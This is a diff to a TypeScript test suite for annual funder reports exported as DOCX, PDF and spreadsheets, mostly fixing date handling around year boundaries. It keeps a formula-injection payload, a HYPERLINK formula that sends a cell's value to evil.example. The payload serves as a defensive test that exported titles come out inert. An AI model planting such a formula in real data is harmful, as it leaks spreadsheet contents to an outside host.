@@ -38,8 +38,10 @@ const pdfParse = createRequire(import.meta.url)('pdf-parse/lib/pdf-parse.js') as
  * PDF text extracted) and checked against that data. A hostile action title comes out inert.
  */
 const HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez")'
-const YEAR = new Date().getUTCFullYear()
 const TODAY = todayIso()
+/** Dates of the year under review lie up to yesterday, so that one action is late whatever today is (1 January included). */
+const YESTERDAY = addDays(TODAY, -1)
+const YEAR = Number(YESTERDAY.slice(0, 4))
 
 describe('EXP reports for funders', () => {
   const server = serverPerSuite()
@@ -136,7 +138,7 @@ describe('EXP reports for funders', () => {
           status: 'in_progress',
           progress: 10,
           start: `${YEAR - 1}-01-01`,
-          deadline: addDays(TODAY, -1),
+          deadline: YESTERDAY,
           accountable: editor.userId,
           responsible: [editor.userId],
         }),
@@ -160,8 +162,8 @@ describe('EXP reports for funders', () => {
       const i1 = indicatorsOf(values.doc).get('i1')!
       appendIndicatorValue(i1, 'v1', entry(12, `${YEAR}-01-01`, 'Saisie erronée'))
       appendIndicatorValue(i1, 'v2', entry(14, `${YEAR}-01-01`, 'Correction du registre', 'v1'))
-      appendIndicatorValue(i1, 'v3', entry(20, TODAY, 'Fin d’année'))
-      appendIndicatorValue(indicatorsOf(values.doc).get('i2')!, 'v4', entry(-250, TODAY, 'Déficit réduit'))
+      appendIndicatorValue(i1, 'v3', entry(20, YESTERDAY, 'Fin d’année'))
+      appendIndicatorValue(indicatorsOf(values.doc).get('i2')!, 'v4', entry(-250, YESTERDAY, 'Déficit réduit'))
     })
     await waitForRows(admin.client, workspaceId, 'plan', 2)
     expect([...plan.errors, ...values.errors]).toEqual([])
@@ -281,7 +283,7 @@ describe('EXP reports for funders', () => {
     expect(byEntry.v2![at('Corrige la saisie n°')]).toBe('v1')
     expect(byEntry.v2![at('En vigueur')]).toBe('oui')
     expect(byEntry.v2![at('Saisie par')]).toBe('Membre 0 editor')
-    expect(byEntry.v2![at('Saisie le')]).toMatch(new RegExp(`^${YEAR}-\\d\\d-\\d\\d \\d\\d:\\d\\d$`))
+    expect(byEntry.v2![at('Saisie le')]).toMatch(/^\d{4}-\d\d-\d\d \d\d:\d\d$/)
     // A negative number is a number, not a formula: no apostrophe.
     expect(byEntry.v4![at('Valeur')]).toBe('-250')
 
@@ -322,9 +324,6 @@ describe('EXP reports for funders', () => {
       'Forum des partenaires',
       'Sentier du littoral',
       '4. Décisions de l’année',
-      decision.title,
-      // Recorded without attendance, as the register has it (no quorum).
-      ({ adopted: 'Adoptée', rejected: 'Rejetée', no_quorum: 'Sans quorum' } as const)[decision.outcome],
     ]) {
       expect(paragraphs.join('\n')).toContain(expected)
       expect(pdfText).toContain(expected)
@@ -337,13 +336,22 @@ describe('EXP reports for funders', () => {
     expect(paragraphs).toContain('-250')
     // The hostile title is printed as text in a document (no formulas there).
     expect(paragraphs).toContain(HOSTILE)
-    // Another year: no decision, no value of that year.
-    const before = unzipSync(
-      new Uint8Array(await download(admin, `bilan-annuel-${YEAR - 1}.docx`, 'application/vnd.openxmlformats-officedocument.wordprocessingml.document')),
-    )
-    const text = strFromU8(before['word/document.xml']!)
-    expect(text).toContain('0 décision inscrite au registre')
-    expect(text).not.toContain(decision.title)
+    // The decisions of the year they were taken in (recorded today, by the server's clock), and not of the year before.
+    const decisionYear = Number(decision.decidedAt.slice(0, 4))
+    const reviewText = async (year: number) =>
+      strFromU8(
+        unzipSync(
+          new Uint8Array(await download(admin, `bilan-annuel-${year}.docx`, 'application/vnd.openxmlformats-officedocument.wordprocessingml.document')),
+        )['word/document.xml']!,
+      )
+    const decided = await reviewText(decisionYear)
+    expect(decided).toContain('1 décision inscrite au registre')
+    expect(decided).toContain(decision.title)
+    // Recorded without attendance, as the register has it (no quorum).
+    expect(decided).toContain(({ adopted: 'Adoptée', rejected: 'Rejetée', no_quorum: 'Sans quorum' } as const)[decision.outcome])
+    const before = await reviewText(decisionYear - 1)
+    expect(before).toContain('0 décision inscrite au registre')
+    expect(before).not.toContain(decision.title)
   })
 
   it('[EXP6] rights: an observer downloads, a member of another alliance and a stranger are refused; an unknown file is a 404 naming the field', async () => {
